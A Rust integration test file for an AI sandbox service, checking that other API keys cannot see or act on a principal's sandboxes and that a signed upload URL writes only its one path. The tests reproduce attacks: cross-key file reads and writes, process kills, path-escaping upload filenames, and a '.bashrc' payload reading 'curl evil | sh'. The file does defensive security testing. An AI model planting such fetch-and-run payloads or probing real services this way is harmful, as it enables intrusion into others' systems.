//! A sandbox belongs to the principal that made it (issue 41, items 1 and 2): another key can
//! neither see nor act on it through any door, whichever kind it is (an operator's, an E2B
//! sandbox, an MCP conversation's, an agent execution's), and a signed upload URL writes its one
//! path and nothing else. Each test is the attack as it was reproduced against the running
//! service; each refusal is checked from inside the sandbox too (nothing was written, the
//! sandbox still runs).

use crate::common;

use std::time::{Duration, Instant};

use aegis_e2b::envd::signature::{self, Operation};
use common::agent::AgentManifest;
use common::fake_llm::{answer, tool_calls, FakeLlm};
use common::{docker_lines, e2b_base_sandbox, mcp, test_config, TestApp, TestDb};
use reqwest::Method;
use serde_json::{json, Value};

/// The context the MCP key is bound to: files and commands in its own busybox sandbox.
const MCP_CONTEXT: &str = "own-files";

fn sleeper() -> String {
    AgentManifest::new("sleeper")
        .instruction("Wait.")
        .tools(&["fs.write", "fs.read", "cmd.run"])
        .cmd_allowing(&["sleep", "cat"])
        .yaml()
}

async fn app(llm: &FakeLlm, db: &TestDb) -> TestApp {
    let mut config = test_config(&db.url);
    config.llm = llm.config();
    config.seal.security_contexts = vec![json!({
        "name": MCP_CONTEXT, "description": "its own files and commands",
        "tier": "operator",
        "runtime": {"language": "busybox", "version": "1"},
        "capabilities": [
            {"tool_pattern": "fs.*", "path_allowlist": ["/workspace"]},
            {"tool_pattern": "cmd.run", "command_allowlist": ["cat", "sleep"]}],
        "attestation": {"workload_patterns": ["own-*"], "allow_unverified": true}})];
    TestApp::spawn_with(config).await
}

/// An API key of `role`, bound to `context` when given; returns its secret.
async fn key(app: &TestApp, name: &str, role: &str, context: Option<&str>) -> String {
    match context {
        Some(context) => app.create_bound_key(name, role, context).await.0,
        None => app.create_key(name, role).await,
    }
}

async fn rest_call(
    app: &TestApp,
    key: &str,
    sandbox: &str,
    name: &str,
    arguments: Value,
) -> (u16, String) {
    let r = app
        .rest_as(key)
        .post_json(
            "/v1/tools/call",
            &json!({"name": name, "arguments": arguments, "sandbox_id": sandbox}),
        )
        .await;
    (r.status().as_u16(), r.text().await.unwrap())
}

/// Writes the secret (`owner-only`) to `path` in `sandbox` through REST as `key`, which must
/// succeed.
async fn write_secret(app: &TestApp, key: &str, sandbox: &str, path: &str) {
    let arguments = json!({"path": path, "content": "owner-only"});
    let (status, body) = rest_call(app, key, sandbox, "fs.write", arguments).await;
    assert_eq!(status, 200, "{body}");
}

/// The same call in its streaming form (SSE).
async fn rest_stream(app: &TestApp, key: &str, sandbox: &str, command: &str) -> (u16, String) {
    let r = app
        .with_key(Method::POST, "/v1/tools/call", key)
        .header("Accept", "text/event-stream")
        .json(&json!({"name": "cmd.run", "arguments": {"command": command}, "sandbox_id": sandbox}))
        .send()
        .await
        .unwrap();
    (r.status().as_u16(), r.text().await.unwrap())
}

/// The ids `key` gets from `GET /v1/sandboxes`.
async fn listed(app: &TestApp, key: &str) -> Vec<String> {
    let r = app
        .rest_as(key)
        .response(Method::GET, "/v1/sandboxes", None)
        .await;
    assert_eq!(r.status(), 200);
    let all: Vec<Value> = r.json().await.unwrap();
    all.iter()
        .filter_map(|s| s["id"].as_str().map(str::to_owned))
        .collect()
}

/// The sandbox the admin's listing shows with this owner kind (and, if given, owner id).
async fn sandbox_of(app: &TestApp, kind: &str, owner_id: Option<&str>) -> String {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let r = app.response(Method::GET, "/v1/sandboxes", None).await;
        let all: Vec<Value> = r.json().await.unwrap();
        let found = all.iter().find(|s| {
            s["owner"]["kind"] == kind
                && s["state"] == "running"
                && owner_id.is_none_or(|id| s["owner"]["id"] == id)
        });
        if let Some(s) = found {
            return s["id"].as_str().unwrap().to_owned();
        }
        assert!(
            Instant::now() < deadline,
            "no running {kind} sandbox: {all:?}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

/// What `ls -a dir` shows inside the sandbox's container (read by Docker, not by the node).
fn inside(sandbox: &str, dir: &str) -> Vec<String> {
    docker_lines(&[
        "exec",
        "-u",
        "65534:65534",
        &format!("aegis-sbx-{sandbox}"),
        "ls",
        "-a",
        dir,
    ])
}

/// One sandbox of the matrix: its id, the directory its owner wrote `secret.txt` into.
struct Victim {
    kind: &'static str,
    id: String,
    dir: &'static str,
}

#[tokio::test]
async fn another_key_neither_sees_nor_acts_on_any_kind_of_sandbox_through_any_door() {
    let db = TestDb::create().await;
    let llm = FakeLlm::start(vec![
        tool_calls(&[("cmd__run", json!({"command": "sleep 120"}))]),
        answer("never"),
    ])
    .await;
    let app = app(&llm, &db).await;
    let owner = key(&app, "owner", "operator", None).await;
    let intruder = key(&app, "intruder", "operator", None).await;
    let reader = key(&app, "reader", "readonly", None).await;
    let mcp_owner = key(&app, "mcp-owner", "operator", Some(MCP_CONTEXT)).await;
    let mcp_intruder = key(&app, "mcp-intruder", "operator", Some(MCP_CONTEXT)).await;

    // An operator's sandbox, made and written through REST by its key.
    let busybox = json!({"runtime": "busybox"});
    let made = app
        .rest_as(&owner)
        .posted("/v1/sandboxes", busybox, 201)
        .await;
    let operator_id = made["sandbox_id"].as_str().unwrap().to_owned();
    write_secret(&app, &owner, &operator_id, "/workspace/secret.txt").await;

    // An E2B sandbox of the same key, written through /v1 (the owner may).
    let (e2b_id, _, e2b_current) = e2b_base_sandbox(&app, &owner).await;
    write_secret(&app, &owner, &e2b_current, "/home/user/secret.txt").await;

    // An MCP conversation's sandbox.
    let session = mcp::Session::open(&app, &mcp_owner).await;
    session
        .tool_ok(
            "fs.write",
            json!({"path": "/workspace/secret.txt", "content": "owner-only"}),
        )
        .await;
    let mcp_id = sandbox_of(&app, "session", None).await;

    // An agent execution's sandbox (its command sleeps while we attack).
    app.deployed("/v1/agents", &sleeper()).await;
    let execution = app
        .rest_as(&owner)
        .started("/v1/agents/sleeper/execute", json!({}))
        .await;
    let execution_id = sandbox_of(&app, "execution", Some(&execution)).await;
    let written = docker_lines(&[
        "exec",
        "-u",
        "65534:65534",
        &format!("aegis-sbx-{execution_id}"),
        "sh",
        "-c",
        "echo owner-only > /workspace/secret.txt && echo ok",
    ]);
    assert_eq!(written, ["ok"]);

    let victims = [
        Victim {
            kind: "operator",
            id: operator_id.clone(),
            dir: "/workspace",
        },
        Victim {
            kind: "e2b",
            id: e2b_current.clone(),
            dir: "/home/user",
        },
        Victim {
            kind: "mcp",
            id: mcp_id.clone(),
            dir: "/workspace",
        },
        Victim {
            kind: "execution",
            id: execution_id.clone(),
            dir: "/workspace",
        },
    ];

    // The admin sees all four; nobody else sees another's.
    let admin_sees = listed(&app, common::TEST_ADMIN_KEY).await;
    for v in &victims {
        assert!(admin_sees.contains(&v.id), "{} not listed to admin", v.kind);
    }
    assert_eq!(
        listed(&app, &owner).await.len(),
        2,
        "the owner key sees its two"
    );
    for key in [&intruder, &reader] {
        let sees = listed(&app, key).await;
        for v in &victims {
            assert!(!sees.contains(&v.id), "{} listed to another key", v.kind);
        }
    }

    // Every sandbox-taking tool, unary and streamed, and the destroy route: "not found",
    // exactly as for a sandbox that does not exist.
    let admin = common::TEST_ADMIN_KEY.to_owned();
    let intruders: [(&str, &String); 3] = [
        ("operator key", &intruder),
        ("admin key", &admin),
        ("owner of the others", &owner),
    ];
    for v in &victims {
        let secret = format!("{}/secret.txt", v.dir);
        let planted = format!("{}/planted.txt", v.dir);
        for (who, key) in intruders {
            if who == "owner of the others" && matches!(v.kind, "operator" | "e2b") {
                continue;
            }
            let attempts = [
                ("fs.read", json!({"path": secret})),
                (
                    "fs.write",
                    json!({"path": planted, "content": "from another key"}),
                ),
                ("fs.list", json!({"path": v.dir})),
                ("cmd.run", json!({"command": format!("cat {secret}")})),
                (
                    "cmd.run",
                    json!({"command": "sleep 30", "background": true, "tag": "intruder"}),
                ),
                ("proc.list", json!({})),
                ("proc.output", json!({"pid": 1})),
                ("proc.signal", json!({"pid": 1, "signal": "kill"})),
                (
                    "code.run",
                    json!({"code": format!("open('{secret}').read()")}),
                ),
                ("code.contexts", json!({"action": "list"})),
            ];
            for (tool, arguments) in attempts {
                let (status, body) = rest_call(&app, key, &v.id, tool, arguments).await;
                assert_eq!(
                    status, 404,
                    "{who} {tool} in the {} sandbox: {body}",
                    v.kind
                );
                assert!(
                    body.contains(&format!("sandbox {} not found", v.id)),
                    "{who} {tool} in the {} sandbox: {body}",
                    v.kind
                );
                assert!(!body.contains("owner-only"), "{body}");
            }
            let (status, body) = rest_stream(&app, key, &v.id, &format!("cat {secret}")).await;
            assert!((400..500).contains(&status), "{status} {body}");
            assert!(!body.contains("owner-only"), "{body}");
            if who != "admin key" {
                let r = app
                    .rest_as(key)
                    .response(Method::DELETE, &format!("/v1/sandboxes/{}", v.id), None)
                    .await;
                assert_eq!(r.status(), 404, "{who} destroyed the {} sandbox", v.kind);
            }
        }
        // The E2B door finds none of them for another key, by either id.
        for id in [&v.id, &e2b_id] {
            let path = format!("/sandboxes/{id}");
            let r = common::e2b_control(&app, Method::GET, &path, &intruder)
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), 404, "E2B get of the {} sandbox", v.kind);
        }
        // From inside: nothing was planted, the secret is as written, the sandbox runs.
        let files = inside(&v.id, v.dir);
        assert!(
            files.contains(&"secret.txt".to_owned()),
            "{}: {files:?}",
            v.kind
        );
        assert!(
            !files.contains(&"planted.txt".to_owned()),
            "{}: {files:?}",
            v.kind
        );
    }

    // The MCP door names no sandbox: another key's conversation has its own, without the file.
    let other_session = mcp::Session::open(&app, &mcp_intruder).await;
    let read = other_session
        .tool_error("fs.read", json!({"path": "/workspace/secret.txt"}))
        .await;
    assert!(!read.to_string().contains("owner-only"), "{read}");

    // Every refusal of a tool call is one audited, denied row naming the rule.
    let denied: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM audit_log WHERE outcome = 'denied' \
         AND reason_code = 'sandbox_unavailable'",
    )
    .fetch_one(&app.state.pool)
    .await
    .unwrap();
    assert!(denied >= 4 * 8 * 2, "{denied} denied rows");

    // The owners still act in theirs; an admin may destroy another's (README, Security).
    let secret = json!({"path": "/workspace/secret.txt"});
    let (status, body) = rest_call(&app, &owner, &operator_id, "fs.read", secret).await;
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("owner-only"));
    app.answered(
        Method::DELETE,
        &format!("/v1/sandboxes/{operator_id}"),
        None,
        200,
    )
    .await;
    app.cancel_execution(&execution, 200).await;
}

#[tokio::test]
async fn a_signed_upload_url_writes_its_one_path_and_nothing_else() {
    let db = TestDb::create().await;
    let llm = FakeLlm::start(Vec::new()).await;
    let app = app(&llm, &db).await;
    let owner = key(&app, "uploader", "operator", None).await;
    let (_, token, current) = e2b_base_sandbox(&app, &owner).await;
    let path = "/home/user/up.txt";
    let expires = chrono::Utc::now().timestamp() + 300;
    let sig = signature::sign(path, Operation::Write, Some("user"), &token, Some(expires))
        .replace('+', "%2B")
        .replace('/', "%2F")
        .replace('=', "%3D");
    let url = format!(
        "{}/files?path={path}&username=user&signature={sig}&signature_expiration={expires}",
        app.http_base
    );
    // A multipart body with one `file` part per (filename, content).
    let upload = |url: String, parts: &[(&str, &str)]| {
        let mut body = String::new();
        for (name, content) in parts {
            body.push_str(&format!(
                "--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\
                 Content-Type: application/octet-stream\r\n\r\n{content}\r\n"
            ));
        }
        body.push_str("--XyZ--\r\n");
        app.http
            .post(url)
            .header("Content-Type", "multipart/form-data; boundary=XyZ")
            .body(body)
            .send()
    };

    // The attack: three parts, the later ones naming other paths (one the owner's shell runs).
    let r = upload(
        url.clone(),
        &[
            ("up.txt", "signed"),
            ("/home/user/escaped.txt", "escaped"),
            (".bashrc", "curl evil | sh"),
        ],
    )
    .await
    .unwrap();
    let status = r.status().as_u16();
    let text = r.text().await.unwrap();
    assert_eq!(status, 403, "{text}");
    assert!(text.contains("authorises one file"), "{text}");
    let files = inside(&current, "/home/user");
    for name in ["up.txt", "escaped.txt", ".bashrc"] {
        assert!(
            !files.contains(&name.to_owned()),
            "{name} written: {files:?}"
        );
    }

    // One part whose filename names another path: written at the signed path only.
    let r = upload(url.clone(), &[("/home/user/escaped.txt", "signed")])
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    let files = inside(&current, "/home/user");
    assert!(files.contains(&"up.txt".to_owned()), "{files:?}");
    assert!(!files.contains(&"escaped.txt".to_owned()), "{files:?}");
    let content = docker_lines(&[
        "exec",
        "-u",
        "65534:65534",
        &format!("aegis-sbx-{current}"),
        "cat",
        path,
    ]);
    assert_eq!(content, ["signed"]);

    // The same signature for another operation, user or path is refused.
    let read = format!(
        "{}/files?path={path}&username=user&signature={sig}&signature_expiration={expires}",
        app.http_base
    );
    assert_eq!(app.http.get(&read).send().await.unwrap().status(), 401);
    let other_path = url.replace("up.txt", "escaped.txt");
    let r = upload(other_path, &[("x", "x")]).await.unwrap();
    assert_eq!(r.status(), 401);
    let root = url.replace("username=user", "username=root");
    let r = upload(root, &[("x", "x")]).await.unwrap();
    assert!(r.status().is_client_error());
    let files = inside(&current, "/home/user");
    assert!(!files.contains(&"escaped.txt".to_owned()), "{files:?}");
}
